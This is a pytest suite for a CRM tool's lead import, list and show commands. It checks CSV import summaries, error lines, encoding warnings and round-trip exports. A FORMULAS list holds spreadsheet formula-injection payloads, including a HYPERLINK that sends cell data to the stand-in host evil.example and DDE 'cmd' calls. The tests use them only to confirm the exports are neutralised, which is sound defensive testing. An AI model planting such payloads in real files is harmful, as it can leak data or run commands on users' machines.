"""`nurture leads import|list|show` through the real CLI, on both databases."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from sqlalchemy import func, select

from nurture.cli import cli
from nurture.cli import leads as leads_cli
from nurture.leads.lifecycle import LeadStatus, Stage
from nurture.leads.models import ActorKind, Lead
from nurture.leads.service import Actor, create_lead, find_lead
from nurture.segments.service import create_segment

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures" / "import"


def invoke(app, *args: str, **kwargs):
    return app.test_cli_runner().invoke(cli, list(args), **kwargs)


def lead_count(session) -> int:
    session.expire_all()
    return session.scalar(select(func.count()).select_from(Lead))


def assert_one_line_error(result, *fragments: str) -> None:
    assert result.exit_code == 2, result.output
    assert result.stdout == ""
    lines = result.stderr.splitlines()
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith("Error: ")
    for fragment in fragments:
        assert fragment in lines[0]


# --- import ------------------------------------------------------------------------------------------------


def test_import_prints_one_summary_line(app, session):
    result = invoke(app, "leads", "import", str(FIXTURES / "hubspot.csv"))
    assert result.exit_code == 0, result.output
    assert result.stdout == "Imported hubspot.csv: 3 rows: 3 created, 0 updated, 0 skipped, 0 rejected.\n"
    assert result.stderr == ""
    assert lead_count(session) == 3


def test_json_output_is_exactly_one_object(app):
    result = invoke(app, "leads", "import", str(FIXTURES / "bad_rows.csv"), "--json")
    assert result.exit_code == 0, result.output
    assert result.stdout.count("\n") == 1
    assert json.loads(result.stdout) == {
        "rows": 12, "created": 2, "updated": 0, "skipped": 0, "rejected": 10, "warnings": [],
    }


def test_reimport_reports_nothing_new(app):
    invoke(app, "leads", "import", str(FIXTURES / "mailchimp.csv"), "--tag", "list-a")
    result = invoke(app, "leads", "import", str(FIXTURES / "mailchimp.csv"), "--tag", "list-a", "--json")
    assert json.loads(result.stdout) == {
        "rows": 2, "created": 0, "updated": 0, "skipped": 2, "rejected": 0, "warnings": [],
    }


def test_without_a_rejects_file_the_first_rejects_are_printed_with_line_and_reason(app):
    result = invoke(app, "leads", "import", str(FIXTURES / "bad_rows.csv"))
    assert result.exit_code == 0, result.output
    assert result.stdout == "Imported bad_rows.csv: 12 rows: 2 created, 0 updated, 0 skipped, 10 rejected.\n"
    lines = result.stderr.splitlines()
    assert len(lines) == 10
    assert lines[0].startswith("  line 4: email 'not-an-email': ")
    assert lines[1].startswith("  line 5: ") and "Mars/Olympus" in lines[1]


def test_rejects_file_has_lines_reasons_and_original_values(app, tmp_path):
    rejects = tmp_path / "rejects.csv"
    result = invoke(app, "leads", "import", str(FIXTURES / "bad_rows.csv"), "--rejects", str(rejects))
    assert result.exit_code == 0, result.output
    assert result.stdout == (
        f"Imported bad_rows.csv: 12 rows: 2 created, 0 updated, 0 skipped, 10 rejected; "
        f"rejected rows are in {rejects}.\n"
    )
    assert rejects.read_bytes().startswith(b"\xef\xbb\xbf")
    with rejects.open(newline="", encoding="utf-8-sig") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["line", "reason", "email", "first_name", "time_zone", "stage", "owner", "consent_at",
                       "consent_ip", "notes"]
    assert [row[0] for row in rows[1:]] == ["4", "5", "6", "7", "8", "9", "10", "11", "12", "13"]
    assert rows[2][1].startswith("time_zone: unknown time zone 'Mars/Olympus'")
    assert rows[2][2:] == ["bad-tz@example.com", "Bad", "Mars/Olympus", "", "", "", "", ""]


# Issue 9, item 7: these ran as formulas when a sales rep opened the export or the rejects file.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]
NEUTRALISED = [
    '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "'+cmd\\|' /C calc'!A0",
    "'@SUM(1+1)*cmd\\|' /C calc'!A0",
    "'-2+3+cmd\\|' /C calc'!A0",
]


def test_the_rejects_file_neutralises_formulas(app, tmp_path):
    source = tmp_path / "formulas.csv"
    with source.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["email", "first_name", "company"])
        for number, formula in enumerate(FORMULAS):
            writer.writerow([f"not-an-email-{number}", formula, "Acme"])
        # A leading tab is trimmed by spreadsheets, so this one would run as =1+1.
        writer.writerow(["\t=1+1", "\t=1+1", "\r=1+1"])
    rejects = tmp_path / "rejects.csv"
    result = invoke(app, "leads", "import", str(source), "--rejects", str(rejects))
    assert result.exit_code == 0, result.output
    with rejects.open(newline="", encoding="utf-8-sig") as handle:
        rows = list(csv.reader(handle))
    assert [row[3] for row in rows[1:5]] == NEUTRALISED
    assert rows[5][2:] == ["'\t=1+1", "'\t=1+1", "'\r=1+1"]
    assert rows[5][1] == "email '=1+1': An email address must have an @-sign."
    # The rejects file, fixed, imports back as it was written.
    fixed = tmp_path / "fixed.csv"
    with fixed.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(
            [rows[0][2:], *[[f"fixed{number}@example.com", *row[3:]] for number, row in enumerate(rows[1:5])]]
        )
    assert invoke(app, "leads", "import", str(fixed)).exit_code == 0
    exported = invoke(app, "leads", "list", "--format", "json")
    assert [lead["first_name"] for lead in json.loads(exported.stdout)] == FORMULAS


def test_the_csv_export_neutralises_formulas_and_imports_back_unchanged(app, session, clock, tmp_path):
    actor = Actor(ActorKind.USER)
    for number, formula in enumerate(FORMULAS):
        create_lead(
            session, clock, f"f{number}@example.com", actor=actor, first_name=formula, company="=1+1",
            phone="+33 1 23 45 67 89", tags=["=cmd"],
        )
    session.commit()
    exported = invoke(app, "leads", "list", "--format", "csv")
    assert exported.exit_code == 0, exported.output
    rows = list(csv.DictReader(exported.stdout.splitlines(keepends=True)))
    assert [row["first_name"] for row in rows] == NEUTRALISED
    assert {(row["company"], row["phone"], row["tags"]) for row in rows} == {
        ("'=1+1", "'+33 1 23 45 67 89", "'=cmd"),
    }
    assert {row["score"] for row in rows} == {"0"}
    path = tmp_path / "export.csv"
    path.write_text(exported.stdout, encoding="utf-8")
    again = invoke(app, "leads", "import", str(path), "--json")
    assert json.loads(again.stdout) == {
        "rows": 4, "created": 0, "updated": 0, "skipped": 4, "rejected": 0, "warnings": [],
    }


def test_duplicate_header_names_exit_2_naming_them(app, session, tmp_path):
    path = tmp_path / "dup.csv"
    path.write_text("email,email,first_name,First Name,tags,tags\nann@example.com,b@example.com,A,B,c,d\n")
    result = invoke(app, "leads", "import", str(path))
    assert_one_line_error(
        result, "dup.csv: duplicate column names: 'email' (column 1) and 'email' (column 2)", "'tags' (column 6)",
    )
    assert lead_count(session) == 0


def test_warnings_follow_the_summary_on_stderr(app, tmp_path):
    path = tmp_path / "mixed.csv"
    path.write_bytes(
        b"email,first_name\n" + "zoe@example.com,Zoë\n".encode() + "rene@example.com,René\n".encode("cp1252")
    )
    result = invoke(app, "leads", "import", str(path))
    assert result.exit_code == 0, result.output
    assert result.stdout == "Imported mixed.csv: 2 rows: 2 created, 0 updated, 0 skipped, 0 rejected.\n"
    assert result.stderr == (
        "Warning: the file mixes encodings: 1 row with accents was read as UTF-8 and 1 as windows-1252; "
        "the windows-1252 ones are at line 3.\n"
    )
    as_json = invoke(app, "leads", "import", str(path), "--json")
    assert json.loads(as_json.stdout)["warnings"] == [result.stderr[len("Warning: ") : -2]]


def test_a_nul_character_rejects_the_row_with_its_line(app, session, tmp_path):
    path = tmp_path / "nul.csv"
    path.write_bytes(b"email,first_name\nann@example.com,A\x00nn\nbob@example.com,Bob\n")
    result = invoke(app, "leads", "import", str(path))
    assert result.exit_code == 0, result.output
    assert result.stderr == "  line 2: first_name: contains a NUL character (at character 2)\n"
    session.expire_all()
    assert [lead.email for lead in session.scalars(select(Lead))] == ["bob@example.com"]


def test_a_rejects_file_that_cannot_be_written(app, tmp_path, session):
    result = invoke(app, "leads", "import", str(FIXTURES / "utf8.csv"), "--rejects", str(tmp_path / "no" / "r.csv"))
    assert_one_line_error(result, "rejects: cannot write")
    assert lead_count(session) == 0


@pytest.mark.parametrize(
    ("name", "fragments"),
    [
        ("missing.csv", ["missing.csv: does not exist"]),
        ("empty.csv", ["empty.csv: is empty"]),
        ("blank.csv", ["blank.csv: is empty"]),
        ("binary.csv", ["binary.csv: looks binary"]),
        ("workbook.xlsx", ["workbook.xlsx: is a ZIP archive"]),
        ("no_email.csv", ["no_email.csv: no email column", "'Name', 'Phone', 'Company'"]),
    ],
)
def test_unusable_files_exit_2_with_one_line(app, session, name, fragments):
    result = invoke(app, "leads", "import", str(FIXTURES / name), "--json")
    assert_one_line_error(result, *fragments)
    assert lead_count(session) == 0


def test_a_directory_exits_2(app, tmp_path):
    assert_one_line_error(invoke(app, "leads", "import", str(tmp_path)), "is a directory")


@pytest.mark.parametrize(
    ("options", "fragments"),
    [
        (["--map", "first_name=nickname"], ["--map 'first_name': unknown field 'nickname'"]),
        (["--map", "Nickname=first_name"], ["--map 'Nickname': no such column"]),
        (["--map", "first_name"], ['expected "CSV Column=field"']),
        (["--map", "company=email", "--map", "company=phone"], ["given twice"]),
        (["--stage", "champion"], ["--stage: unknown stage 'champion'"]),
        (["--tag", "x" * 101], ["--tag: tag"]),
    ],
)
def test_bad_options_exit_2_with_one_line(app, session, options, fragments):
    result = invoke(app, "leads", "import", str(FIXTURES / "utf8.csv"), *options)
    assert_one_line_error(result, *fragments)
    assert lead_count(session) == 0


def test_dry_run_writes_nothing(app, session, tmp_path):
    rejects = tmp_path / "r.csv"
    result = invoke(app, "leads", "import", str(FIXTURES / "bad_rows.csv"), "--dry-run", "--rejects", str(rejects))
    assert result.exit_code == 0, result.output
    assert result.stdout.endswith("(dry run: nothing was saved).\n")
    assert "2 created" in result.stdout
    assert lead_count(session) == 0
    assert len(rejects.read_text(encoding="utf-8-sig").splitlines()) == 11
    as_json = invoke(app, "leads", "import", str(FIXTURES / "hubspot.csv"), "--dry-run", "--json")
    assert json.loads(as_json.stdout)["created"] == 3
    assert lead_count(session) == 0


def test_options_reach_the_importer(app, session):
    result = invoke(
        app, "leads", "import", str(FIXTURES / "utf8.csv"), "--tag", "fair", "--tag", "2026", "--source", "Fair",
        "--stage", "prospect", "--map", "company=attributes.employer", "--map", "last_name=ignore",
    )
    assert result.exit_code == 0, result.output
    session.expire_all()
    chloe = find_lead(session, "chloe@example.com")
    assert (chloe.stage, chloe.source, chloe.tag_names) == (Stage.LEAD, "Fair", ["2026", "fair"])
    assert (chloe.last_name, chloe.company, chloe.attributes) == (None, None, {"employer": "Café € Co"})


def test_on_duplicate_skip(app, session, clock):
    create_lead(session, clock, "ann@example.com", actor=Actor(ActorKind.USER), first_name="Old")
    session.commit()
    result = invoke(app, "leads", "import", str(FIXTURES / "duplicates.csv"), "--on-duplicate", "skip", "--json")
    assert json.loads(result.stdout) == {
        "rows": 4, "created": 1, "updated": 0, "skipped": 3, "rejected": 0, "warnings": [],
    }
    session.expire_all()
    assert find_lead(session, "ann@example.com").first_name == "Old"


def test_import_from_standard_input(app, session):
    result = invoke(app, "leads", "import", "-", "--json", input=(FIXTURES / "cp1252.csv").read_bytes())
    assert json.loads(result.stdout)["created"] == 2
    session.expire_all()
    assert find_lead(session, "zoe@example.com").last_name == "Ångström"


def test_progress_goes_to_stderr_only_on_a_terminal(app, monkeypatch):
    monkeypatch.setattr(leads_cli, "stderr_is_terminal", lambda: True)
    result = invoke(app, "leads", "import", str(FIXTURES / "hubspot.csv"), "--json")
    assert result.exit_code == 0, result.output
    assert "Importing hubspot.csv" in result.stderr
    assert json.loads(result.stdout)["created"] == 3


# --- list and show -----------------------------------------------------------------------------------------


@pytest.fixture
def imported(app):
    result = invoke(app, "leads", "import", str(FIXTURES / "hubspot.csv"), "--tag", "crm")
    assert result.exit_code == 0, result.output


def test_list_as_a_table(app, imported):
    result = invoke(app, "leads", "list")
    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    assert lines[0].split() == ["EMAIL", "NAME", "COMPANY", "COUNTRY", "STAGE", "STATUS", "SCORE", "TAGS"]
    assert lines[1].startswith("ann@example.com") and "mql" in lines[1] and lines[1].endswith("crm")
    assert len(lines) == 4
    limited = invoke(app, "leads", "list", "--limit", "2").stdout.splitlines()
    assert len(limited) == 4 and limited[-1] == "(first 2; use --limit for more)"


def test_list_as_json(app, imported):
    result = invoke(app, "leads", "list", "--format", "json")
    leads = json.loads(result.stdout)
    assert [lead["email"] for lead in leads] == ["ann@example.com", "Bob.Stone@example.com", "cy@example.com"]
    assert leads[0]["attributes"] == {"record_id": "1001", "create_date": "2024-01-15 09:30", "lead_status": "OPEN"}
    assert leads[0]["tags"] == ["crm"]
    assert json.loads(invoke(app, "leads", "list", "--format", "json", "--limit", "1").stdout)[0]["stage"] == "mql"


def test_empty_lists(app):
    assert invoke(app, "leads", "list").stdout == "No leads.\n"
    assert json.loads(invoke(app, "leads", "list", "--format", "json").stdout) == []


def test_csv_list_imports_back_without_changes(app, imported, session, tmp_path):
    exported = invoke(app, "leads", "list", "--format", "csv")
    assert exported.exit_code == 0, exported.output
    path = tmp_path / "export.csv"
    path.write_text(exported.stdout, encoding="utf-8")
    rows = list(csv.DictReader(exported.stdout.splitlines()))
    assert rows[1]["email"] == "Bob.Stone@example.com" and rows[1]["owner"] == "jane@example.com"
    again = invoke(app, "leads", "import", str(path), "--json")
    assert json.loads(again.stdout) == {
        "rows": 3, "created": 0, "updated": 0, "skipped": 3, "rejected": 0, "warnings": [],
    }


def test_list_a_segment(app, imported, session, clock):
    create_segment(session, clock, "americans", "Americans", {"field": "country", "op": "=", "value": "United States"})
    session.commit()
    result = invoke(app, "leads", "list", "--segment", "americans", "--format", "csv")
    assert result.exit_code == 0, result.output
    assert [row["email"] for row in csv.DictReader(result.stdout.splitlines())] == ["ann@example.com"]
    missing = invoke(app, "leads", "list", "--segment", "nope")
    assert missing.exit_code != 0
    assert "no segment with slug 'nope'" in missing.stderr


def test_show_a_lead(app, imported, session):
    lead = find_lead(session, "bob.stone@example.com")
    lead.status = LeadStatus.UNSUBSCRIBED
    session.commit()
    result = invoke(app, "leads", "show", "BOB.STONE@EXAMPLE.COM")
    assert result.exit_code == 0, result.output
    out = result.stdout
    assert out.startswith("Bob.Stone@example.com (Bob Stone)\n")
    profile = {line.split()[0]: " ".join(line.split()[1:]) for line in out.splitlines() if line.startswith("  ")}
    assert profile["status"] == "unsubscribed"
    assert profile["owner"] == "jane@example.com"
    assert profile["timezone"] == "Europe/Paris"
    assert profile["stage"] == "sql since 2026-01-15 10:00:00 UTC"
    for expected in (
        "Tags: crm",
        "  record_id: 1002",
        "Stage history:",
        "(new) -> sql  by import:hubspot.csv (imported)",
        "Timeline (most recent first):",
        'imported  {"file": "hubspot.csv", "line": 3}',
    ):
        assert expected in out, out


def test_show_an_unknown_lead(app):
    result = invoke(app, "leads", "show", "nobody@example.com")
    assert result.exit_code != 0
    assert result.stderr.strip() == "Error: no lead with email 'nobody@example.com'"
